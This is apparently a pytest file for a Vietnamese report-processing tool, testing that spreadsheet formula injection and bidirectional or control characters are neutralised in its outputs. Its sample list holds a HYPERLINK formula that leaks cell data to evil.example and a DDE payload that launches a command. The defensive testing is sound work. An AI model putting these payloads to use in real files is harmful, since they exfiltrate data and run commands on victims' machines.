"""Hostile text that reaches the files tdkt writes: a cell that starts with = + - @ opens as
text, never as a formula; control characters and bidirectional overrides never reach a name."""
from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from openpyxl import Workbook, load_workbook

from aggregate.outputs.output import csv_safe, save_workbook
from extract import extract, read

INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1;"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;2)"]


def test_workbook_cells_that_look_like_formulas_are_saved_as_text(tmp_path):
    wb = Workbook()
    for text in INJECTIONS:
        wb.active.append([text, 5])
    path = save_workbook(wb, tmp_path / "x.xlsx")
    ws = load_workbook(path).active
    assert [row[0].value for row in ws.iter_rows()] == INJECTIONS
    assert all(row[0].data_type == "s" for row in ws.iter_rows())
    assert [row[1].value for row in ws.iter_rows()] == [5] * len(INJECTIONS)  # numbers stay numbers


def test_csv_cells_that_look_like_formulas_get_a_quote():
    assert [csv_safe(t) for t in INJECTIONS] == ["'" + t for t in INJECTIONS]
    assert csv_safe("Nguyễn Văn A") == "Nguyễn Văn A" and csv_safe(-5) == -5


def report_with(tmp_path: Path, lines: list[str]) -> Path:
    path = tmp_path / "in" / "bao-cao-xa.txt"
    path.parent.mkdir(exist_ok=True)
    path.write_text("ỦY BAN NHÂN DÂN\nXÃ QUÀI CANG\n\nSố: 12/BC-UBND\n\nQuài Cang, ngày 20 tháng 6 năm 2021\n\n"
                    "BÁO CÁO\n\nKết quả công tác thi đua, khen thưởng 6 tháng đầu năm 2021\n\n"
                    + "\n\n".join(lines) + "\n\nTM. ỦY BAN NHÂN DÂN\nCHỦ TỊCH\n\nLò Văn Pọm\n", encoding="utf-8")
    return path


def test_report_appendix_holds_no_formula(tmp_path):
    """An injected sentence travels as a quote into the appendix: it is text there."""
    report_with(tmp_path, [f"{INJECTIONS[0]} Tổng đàn gia súc ước đạt 4.720 con.",
                           "=1+1 Chủ tịch UBND xã tặng Giấy khen cho 03 tập thể, 12 cá nhân."])
    db = f"sqlite:///{tmp_path / 'h.db'}"
    tdkt = [sys.executable, "-m", "tdkt.cli.main"]
    assert subprocess.run([*tdkt, "ingest", str(tmp_path / "in"), "--db", db], capture_output=True).returncode == 0
    out = tmp_path / "out" / "bc.docx"
    run = subprocess.run([*tdkt, "report", "--period", "2021-H1", "--db", db, "--out", str(out)],
                         capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    wb = load_workbook(out.with_name("bc-phu-luc.xlsx"))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(isinstance(c.value, str) and c.value.startswith(INJECTIONS[0][:10]) for c in cells)


def test_control_characters_and_bidi_marks_do_not_reach_names(tmp_path):
    path = report_with(tmp_path, ["Tuyên dương cô giáo Vũ\u202eThị\u0007 Ngọt\u200f, trường Mầm non xã Quài Cang."])
    document = read(path)
    text = "".join(b.text for b in document.blocks)
    assert not any(ch in text for ch in "\u202e\u0007\u200f")
    names = [p.name for p in extract(document).people]
    assert all(not any(ord(ch) < 32 or 0x200e <= ord(ch) <= 0x202e for ch in n) for n in names)
